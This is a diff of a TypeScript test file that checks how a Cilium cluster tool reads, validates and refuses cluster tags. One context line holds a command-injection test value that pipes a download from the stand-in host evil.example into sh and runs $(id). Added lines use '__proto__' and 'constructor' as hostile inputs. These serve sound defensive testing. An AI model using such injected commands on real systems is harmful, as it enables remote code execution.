@@ -48,6 +48,8 @@ describe("every tag of docs/architecture.md", () => {
     ["cilium_restart_pods", "some", "none, dns, all"],
     ["cilium_on_disable", "kep", "uninstall, keep, purge"],
     ["cilium_paused", "1", "true or false"],
+    ["cilium_encryption", "__proto__", "wireguard, none"],
+    ["cilium_hubble", "constructor", "relay, full, agent, off"],
     ["cilium_acknowledge", " ", "codes of warnings, separated by spaces or plus signs"],
     ["cilium_acknowledge", "no_such@code", "codes of warnings, separated by spaces or plus signs"],
     ["cilium_allow_auth_mode_change", "maybe", "true or false"],
@@ -141,6 +143,34 @@ describe("reading the tags of a cluster", () => {
     expect(objection?.remedy).toContain(
       `--tags 'cilium_version=1.19'\\''; curl evil.example | sh; '\\''$(id)' && `,
     );
+  });
+
+  it.each([
+    ["cilium_encryption", "none", ["wireguard"], "wireguard"],
+    ["cilium_version", "1.18", ["1.19", "1.20.0"], "1.19, 1.20.0"],
+    ["cilium_version", "1.20.1", ["1.19", "1.20.0"], "1.19, 1.20.0"],
+    ["cilium_l7", "False", ["true"], "true"],
+  ])("refuses %s=%s where the fleet allows %j", (tag, value, values, shown) => {
+    expect(readTags({ [tag]: value }, arn, { [tag]: values })).toEqual({
+      requested: {},
+      tagObjections: [
+        {
+          code: "tag-not-allowed",
+          severity: "blocking",
+          message: `Tag ${tag} has the value "${value}", which the fleet's settings do not allow.`,
+          remedy: expect.stringContaining(`Allowed here is ${shown}: ${tagged(`${tag}=${values[0]}`)} ;`),
+        },
+      ],
+    });
+  });
+
+  it.each([
+    ["cilium_version", "v1.19.6", ["1.19"]],
+    ["cilium_version", "1.19", ["1.19"]],
+    ["cilium_version", "1.20.0", ["v1.20.0"]],
+    ["cilium_encryption", "WireGuard", ["wireguard"]],
+  ])("takes %s=%s where the fleet allows %j", (tag, value, values) => {
+    expect(readTags({ [tag]: value }, arn, { [tag]: values }).tagObjections).toEqual([]);
   });
 
   it("passes over the tags of other owners, however they look", () => {
